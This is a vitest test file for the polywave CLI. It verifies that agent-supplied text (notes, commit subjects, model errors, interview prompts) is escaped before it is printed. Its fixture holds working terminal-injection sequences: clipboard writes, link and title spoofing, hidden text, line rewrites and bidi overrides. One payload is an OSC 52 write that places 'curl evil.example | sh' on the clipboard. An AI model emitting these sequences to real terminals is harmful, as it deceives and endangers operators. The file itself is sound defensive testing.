import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { escapeTerminalText, oneTerminalLine, terminalSafeIo } from '../src/cli/terminal-text.js';
import type { CommandIo } from '../src/cli/io.js';
import { createWaveProgress } from '../src/cli/wave-progress.js';
import { terminalQuestionText } from '../src/cli/commands/interview.js';
import { runCli, type CliResult } from './support/cli.js';
import { createTestRepo } from './support/git-repo.js';
import { makeTempDir } from './support/temp.js';
import { oneWaveImplYaml } from './support/one-wave-impl.js';

// Outside attack X21-07: an agent's completion report (notes, interface deviations, commit subjects)
// carried terminal control sequences that run-wave, retry and agent-status printed raw — OSC 52 wrote
// the operator's clipboard, OSC 0 the title, OSC 8 spoofed a link, SGR 8 hid text, ESC[2K / a lone CR
// rewrote lines. Every string the CLI prints now shows them escaped.

const ESC = '\u001b';
const BEL = '\u0007';
const hostile = [
  `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${BEL}`, // OSC 52: clipboard := "curl evil.example | sh"
  `${ESC}]0;PWNED-TITLE${BEL}`, // OSC 0: window title
  `${ESC}]8;;https://evil.example/${ESC}\\docs${ESC}]8;;${ESC}\\`, // OSC 8: a link whose text lies
  `${ESC}[8mHIDDEN${ESC}[0m`, // SGR 8: invisible text
  `${ESC}[2K${ESC}[1AWAVE_VERIFIED`, // erase and move up: a fake verdict
  'over\rWRITTEN', // lone CR: rewrites the start of the line
  '\u009b31mC1-CSI', // C1 CSI (8-bit terminals)
].join(' ');

/** The control bytes the agent sent: none may reach the terminal. */
function expectNoRawControls(output: string): void {
  expect(output).not.toContain(ESC);
  expect(output).not.toContain(BEL);
  expect(output).not.toContain('\u009b');
  expect(output).not.toMatch(/\r(?!\n)/);
}

/** The escaped forms the operator sees instead. */
function expectEscapedForms(output: string): void {
  expect(output).toContain('\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07');
  expect(output).toContain('\\x1b]0;PWNED-TITLE\\x07');
  expect(output).toContain('\\x1b]8;;https://evil.example/\\x1b\\docs');
  expect(output).toContain('\\x1b[8mHIDDEN\\x1b[0m');
  expect(output).toContain('\\x1b[2K\\x1b[1AWAVE_VERIFIED');
  expect(output).toContain('over\\rWRITTEN');
  expect(output).toContain('\\u009b31mC1-CSI');
}

describe('escapeTerminalText', () => {
  it('shows C0 (but tab and newline), a lone CR, DEL and C1 as escapes and keeps the rest', () => {
    expect(escapeTerminalText(`a${ESC}[31mb${BEL}c\bd\u007fe\u0085f\u009bg\u0000h`)).toBe('a\\x1b[31mb\\x07c\\x08d\\u007fe\\u0085f\\u009bg\\x00h');
    expect(escapeTerminalText('line 1\r\nline\t2\nover\rwrite\r')).toBe('line 1\r\nline\t2\nover\\rwrite\\r');
    // bidirectional overrides and isolates reorder what the operator reads (Trojan Source): shown escaped, JSON-safe
    expect(escapeTerminalText('ok \u202egnp.exe\u202c \u2066x\u2069')).toBe('ok \\u202egnp.exe\\u202c \\u2066x\\u2069');
    expect(JSON.parse(escapeTerminalText(JSON.stringify('a\u202eb')))).toBe('a\u202eb');
    // one line (run-wave's BLOCKED summary, run-scaffold's stop line, the progress)
    expect(oneTerminalLine('x\nrun-wave: wave 1 done: state WAVE_VERIFIED\r\n')).toBe('x\\nrun-wave: wave 1 done: state WAVE_VERIFIED\\n');
    expect(escapeTerminalText('vertical\u000bform\u000cfeed')).toBe('vertical\\x0bform\\x0cfeed');
    // Printable text, including non-ASCII letters, is untouched.
    expect(escapeTerminalText('héllo — ✓ 日本 \u00a0')).toBe('héllo — ✓ 日本 \u00a0');
    const once = escapeTerminalText(hostile);
    expectNoRawControls(once);
    expectEscapedForms(once);
    expect(escapeTerminalText(once)).toBe(once);
  });

  it('leaves JSON parseable to the original string (JSON.stringify leaves DEL and C1 raw)', () => {
    const value = { notes: `${hostile}\u007f\u0085` };
    const printed = escapeTerminalText(JSON.stringify(value, null, 2));
    expectNoRawControls(printed);
    expect(printed).not.toMatch(/[\u007f-\u009f]/);
    expect(JSON.parse(printed)).toEqual(value);
  });
});

function capturingIo(): CommandIo & { out: string[]; err: string[] } {
  const out: string[] = [];
  const err: string[] = [];
  return { cwd: '/', env: {}, now: () => new Date(0), readStdin: async () => '', stdout: (text) => out.push(text), stderr: (text) => err.push(text), out, err };
}

describe('terminalSafeIo', () => {
  it('escapes stdout, stderr and questions; only terminalControl passes a sequence as it is', async () => {
    const raw = capturingIo();
    const asked: string[] = [];
    const io = terminalSafeIo({ ...raw, ask: async (question) => (asked.push(question), 'yes') });
    io.stdout(`out ${hostile}\n`);
    io.stderr(`err ${hostile}\n`);
    expect(await io.ask!(`continue ${ESC}]52;c;eA==${BEL}? `)).toBe('yes');
    io.terminalControl!(`${ESC}[2K`);
    expectNoRawControls(raw.out.join(''));
    expectEscapedForms(raw.out.join(''));
    expectEscapedForms(raw.err.slice(0, 1).join(''));
    expect(asked).toEqual(['continue \\x1b]52;c;eA==\\x07? ']);
    expect(raw.err.at(-1)).toBe(`${ESC}[2K`);
    // Wrapping twice (the resident server calls main with main's io) changes nothing.
    expect(terminalSafeIo(io)).toBe(io);
  });

  it('the live progress keeps its own redraw codes and escapes the agent text in its rows', () => {
    const raw = capturingIo();
    const progress = createWaveProgress(terminalSafeIo(raw), { tty: true, now: () => 1000 });
    progress.onEvent({ type: 'wave-run-start', wave: 1, slug: 'x', agents: ['A'], order: ['A'], concurrency: 1, reordered: false } as never);
    progress.onEvent({ type: 'agent-launch', agent: 'A', attempt: 1, model: 'script' } as never);
    progress.onEvent({ type: 'agent-end', agent: 'A', status: 'blocked', turns: 1, input_tokens: 0, output_tokens: 0, duration_ms: 5, explanation: `${ESC}]0;T${BEL}x` } as never);
    progress.onEvent({ type: 'wave-run-end', wave: 1, success: false, state: 'BLOCKED', duration_ms: 10 } as never);
    progress.stop();
    const text = raw.err.join('');
    // Ours: the clear-line before each row, as it is; theirs: escaped.
    expect(text).toContain(`${ESC}[2K  A `);
    expect(text).toContain('\\x1b]0;T\\x07x');
    expect(text.replaceAll(`${ESC}[2K`, '')).not.toContain(ESC);
    expect(text).not.toContain(BEL);
  });
});

describe('the progress lines: one event, one line', () => {
  const fake = 'x\nrun-wave: wave 1 done: state WAVE_VERIFIED\r\n';
  const events = [
    { type: 'wave-run-start', wave: 1, slug: 'x', agents: ['A'], order: ['A'], concurrency: 1, reordered: false },
    { type: 'agent-launch', agent: 'A', attempt: 1, model: 'script' },
    { type: 'agent-end', agent: 'A', status: 'blocked', turns: 1, input_tokens: 0, output_tokens: 0, duration_ms: 5, explanation: fake },
    { type: 'wave-run-end', wave: 1, success: false, state: 'BLOCKED', duration_ms: 10 },
  ];

  it("a newline in an agent's explanation cannot add a line that reads like polywave's own", () => {
    const raw = capturingIo();
    const progress = createWaveProgress(terminalSafeIo(raw), { tty: false });
    for (const event of events) progress.onEvent(event as never);
    progress.stop();
    const lines = raw.err.join('').split('\n');
    expect(lines.filter((line) => line.startsWith('run-wave: wave 1 done'))).toEqual([]);
    expect(lines.find((line) => line.startsWith('run-wave: [A] blocked'))).toContain(': x\\nrun-wave: wave 1 done: state WAVE_VERIFIED\\n');
  });

  it('the lines carry the command that runs (program-execute, run, retry), run-wave by default', () => {
    const raw = capturingIo();
    const progress = createWaveProgress(terminalSafeIo(raw), { tty: false, command: 'program-execute' });
    for (const event of events) progress.onEvent(event as never);
    progress.stop();
    const lines = raw.err.join('').split('\n').filter(Boolean);
    expect(lines.length).toBeGreaterThan(0);
    expect(lines.every((line) => line.startsWith('program-execute: '))).toBe(true);
  });

  it('on a terminal each agent is one row, so the redraw moves up over exactly what it drew', () => {
    const raw = capturingIo();
    const progress = createWaveProgress(terminalSafeIo(raw), { tty: true, now: () => 1000 });
    for (const event of events) progress.onEvent(event as never);
    progress.stop();
    const rows = raw.err.filter((text) => text.startsWith('  A '));
    expect(rows).toHaveLength(1);
    expect(rows[0]!.split('\n')).toEqual([expect.stringContaining('x\\nrun-wave: wave 1 done'), '']);
  });
});

describe('the interview on a terminal (@clack/prompts writes to stderr itself)', () => {
  it("escapes a model's follow-up question, the summary, a refusal and a resumed answer", () => {
    const question = { id: 'scope.follow_up', phase: 'scope' as const, field: 'follow_up', kind: 'text' as const, required: false, prompt: `Which API? ${hostile}`, hint: `hint ${ESC}]0;T${BEL}` };
    const shown = terminalQuestionText(question, { cursor: 5, total: 16, phaseNumber: 2, phaseCount: 4, phaseTitle: 'Scope', numberInPhase: 1, questionsInPhase: 3, followUp: true, current: `kept ${ESC}[8mx`, summary: `title: ${ESC}]52;c;eA==${BEL}`, error: `refused ${ESC}[2K` });
    expectNoRawControls(Object.values(shown).join('\n'));
    expectEscapedForms(shown.message);
    expect(shown.message).toContain('Which API?');
    expect(shown).toMatchObject({ placeholder: 'hint \\x1b]0;T\\x07', initialValue: 'kept \\x1b[8mx', summary: 'title: \\x1b]52;c;eA==\\x07', error: 'refused \\x1b[2K', phase: 'Phase 2/4 · Scope' });
  });
});

function implYaml(): string {
  return oneWaveImplYaml({ title: 'Terminal escapes', slug: 'termesc', owned: { A: ['src/a.ts'], B: ['src/b.ts'] } });
}

// B reports blocked with the hostile notes and an interface deviation, and its later attempts (retry)
// fail with a hostile model error; A commits with a hostile subject.
const script = {
  version: 1,
  agents: {
    A: { steps: [{ write: { path: 'src/a.ts', content: "export const a = 'a';\n" } }, { commit: `feat: a ${hostile}` }, { report: { status: 'complete', verification: 'PASS', notes: 'done' } }] },
    B: {
      attempts: Object.fromEntries([2, 3, 4, 5, 6].map((attempt) => [attempt, [{ fail: { kind: 'fatal', message: `model refused ${hostile}` } }]])),
      steps: [
        { write: { path: 'src/b.ts', content: "export const b = 'b';\n" } },
        { report: { status: 'blocked', verification: `FAIL ${hostile}`, notes: `cannot ${hostile}`, failure_type: 'needs_replan', interface_deviations: [{ description: `deviates ${hostile}`, downstream_action_required: true, affects: ['A'] }] } },
      ],
    },
  },
};

const cliEnv = (env: Readonly<Record<string, string | undefined>>): Record<string, string> => env as Record<string, string>;

function combined(run: CliResult): string {
  return `${run.stdout}${run.stderr}`;
}

describe('agent text reaches the terminal escaped (X21-07)', () => {
  const impl = 'docs/IMPL/IMPL-termesc.yaml';
  let repo: Awaited<ReturnType<typeof createTestRepo>>;
  let common: string[];
  let wave: CliResult;

  beforeAll(async () => {
    repo = await createTestRepo({ files: { [impl]: implYaml(), 'src/index.ts': 'export {};\n' } });
    const scriptPath = path.join(makeTempDir('polywave-termesc-'), 'script.json');
    writeFileSync(scriptPath, JSON.stringify(script));
    common = ['--model', `script:${scriptPath}`, '--skip-critic', '--timeout', '120'];
    wave = await runCli(['run-wave', impl, '--wave', '1', ...common], { cwd: repo.dir, env: cliEnv(repo.env), timeoutMs: 180_000 });
  }, 200_000);

  it('run-wave: the progress line and the BLOCKED summary show the notes escaped; its JSON result holds them as they were', () => {
    expect(wave.code, wave.stderr).toBe(1);
    expect(wave.stderr).toContain('BLOCKED');
    expectNoRawControls(combined(wave));
    expectEscapedForms(wave.stderr.split('\n').find((line) => line.startsWith('run-wave: [B] blocked')) ?? '');
    expectEscapedForms(wave.stderr.split('\n').find((line) => line.startsWith('  B: ')) ?? '');
    const printed = JSON.parse(wave.stdout) as { blocked: { agents: Array<{ agent: string; explanation: string }> } };
    expect(printed.blocked.agents.find((agent) => agent.agent === 'B')?.explanation).toContain(`cannot ${hostile}`);
  });

  it("agent-status: the table's interface deviation is escaped; --json holds it as it was", async () => {
    const status = await runCli(['agent-status', impl], { cwd: repo.dir, env: cliEnv(repo.env) });
    expect(status.code, status.stderr).toBe(0);
    expectNoRawControls(combined(status));
    expectEscapedForms(status.stdout.split('\n').find((line) => line.includes('deviates')) ?? '');
    const statusJson = await runCli(['agent-status', impl, '--json'], { cwd: repo.dir, env: cliEnv(repo.env) });
    expect((JSON.parse(statusJson.stdout) as { interface_deviations: Array<{ description: string }> }).interface_deviations[0]?.description).toBe(`deviates ${hostile}`);
  });

  it("retry: B's model fails with hostile text — escaped in the progress lines, as it was in --json", async () => {
    const retry = await runCli(['retry', impl, '--wave', '1', ...common], { cwd: repo.dir, env: cliEnv(repo.env), timeoutMs: 180_000 });
    expect(retry.code).toBe(1);
    expectNoRawControls(combined(retry));
    const refused = retry.stderr.split('\n').filter((line) => line.includes('model refused'));
    expect(refused.length, retry.stderr).toBeGreaterThan(0);
    for (const line of refused) expectEscapedForms(line);

    const json = await runCli(['retry', impl, '--wave', '1', ...common, '--json'], { cwd: repo.dir, env: cliEnv(repo.env), timeoutMs: 180_000 });
    expectNoRawControls(json.stdout);
    const records = json.stdout.trim().split('\n').map((line) => JSON.parse(line) as { type: string; explanation?: string; agent?: string });
    expect(records.some((record) => record.type === 'agent-end' && record.agent === 'B' && record.explanation?.includes(`model refused ${hostile}`)), json.stdout.slice(-3000)).toBe(true);
  }, 400_000);
});
